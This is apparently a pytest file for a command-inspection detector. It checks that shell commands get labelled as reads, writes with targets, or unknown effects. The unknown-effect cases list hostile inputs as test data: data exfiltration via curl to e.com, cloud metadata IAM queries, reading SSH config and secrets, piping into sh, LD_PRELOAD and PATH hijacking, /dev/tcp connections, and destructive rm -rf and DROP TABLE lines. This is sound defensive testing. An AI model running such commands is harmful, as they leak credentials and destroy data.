"""What a call is said to do: never less than it does, and no more than that where it only reads."""

from __future__ import annotations

import pytest

from sluice.detection.call_inspection import read_effects
from tests.unit.detection.commands.shipped import LIBRARY


def effects_of(text: str) -> set[tuple[str, str]]:
    found = read_effects(LIBRARY, "bash", ["CODE_EXECUTION"], {"command": text})
    return {(effect.kind, effect.target) for effect in found}


@pytest.mark.parametrize(
    "text",
    [
        "ls -la src | grep main > /dev/null 2>&1",
        "timeout 5 cat notes.txt | head -3",
        "bash -c 'wc -l a b'",
        "find . -name '*.py' -newer x | sort -u",
        "git -C repo log --oneline -5",
        "git branch -a",
        "docker ps -a",
        "kubectl -n shop get pods -o wide",
        "aws ec2 describe-instances --region eu-west-1",
        "gcloud compute instances list --project p",
        "gh pr list --limit 5",
        "rabbitmqctl list_queues",
        "systemctl status nginx",
        "curl -s -H 'Accept: text/plain' https://example.com/a?b=c",
        "rsync -an --delete src/ dst/",
        "npm ls --depth 0",
        "terraform --version",
        "cd src && ls",
        "sed -n '1,20p' main.py",
        "psql -c 'SELECT count(*) FROM orders'",
        "echo '--- head ---' && head -5 a.csv",
        "unleash features get my-toggle",
    ],
)
def test_what_only_reads_is_said_to_read(text: str) -> None:
    assert effects_of(text) == {("reads", "")}


@pytest.mark.parametrize(
    ("text", "effects"),
    [
        ("mkdir -p build/out", {("adds", "build/out")}),
        ("cp a.txt notes/b.txt", {("writes", "notes/b.txt")}),
        ("mv a.txt b.txt", {("writes", "a.txt"), ("writes", "b.txt")}),
        ("rm -f a.log", {("deletes", "a.log")}),
        ("cd /etc && touch x", {("adds", "/etc/x")}),
        ("echo hi > ../up.txt", {("reads", ""), ("writes", "../up.txt")}),
        ("cat a >> ./deep/../b", {("reads", ""), ("writes", "b")}),
        ("git add -A && git commit -m x", {("adds", ".")}),
        ("curl -s https://example.com/a.json -o data/a.json", {("reads", ""), ("writes", "data/a.json")}),
    ],
)
def test_what_changes_something_is_said_with_its_targets(text: str, effects: set[tuple[str, str]]) -> None:
    assert effects_of(text) == effects


@pytest.mark.parametrize(
    "text",
    [
        "find . -delete",
        "find . -fprint out",
        "sort -o /etc/passwd a",
        "git -c core.pager=sh log",
        "git log --output=x",
        "git branch -D main",
        "git reset --hard",
        "git push",
        "git clone ext::sh",
        "PATH=/tmp/x:$PATH ls",
        "LD_PRELOAD=./a.so ls",
        "export PATH=/tmp/x; ls",
        "./ls",
        "/home/x/bin/cat a",
        "python -c 'print(1)'",
        "curl https://e.com/?d=$(cat a)",
        "curl -d @a https://e.com",
        "curl -K cfg https://e.com",
        "curl http://169.254.169.254/latest/meta-data/iam",
        "cat ~/.ssh/config",
        "aws secretsmanager get-secret-value --secret-id x",
        "env",
        "sudo ls",
        "ssh host ls",
        "kubectl exec pod -- ls",
        "fastly service version activate",
        "evil",
        "ls | xargs find",
        "cp a $HOME/b",
        "ls; rm -rf $X",
        "cat a | sh",
        "DROP TABLE IF EXISTS users",
        "tar -tf a --to-command=sh",
        "uniq a b",
        "jq -f prog a",
        "ls > $OUT",
        "cat < /dev/tcp/1.2.3.4/80",
    ],
)
def test_what_is_not_certain_is_unknown(text: str) -> None:
    assert ("unknown", "") in effects_of(text)
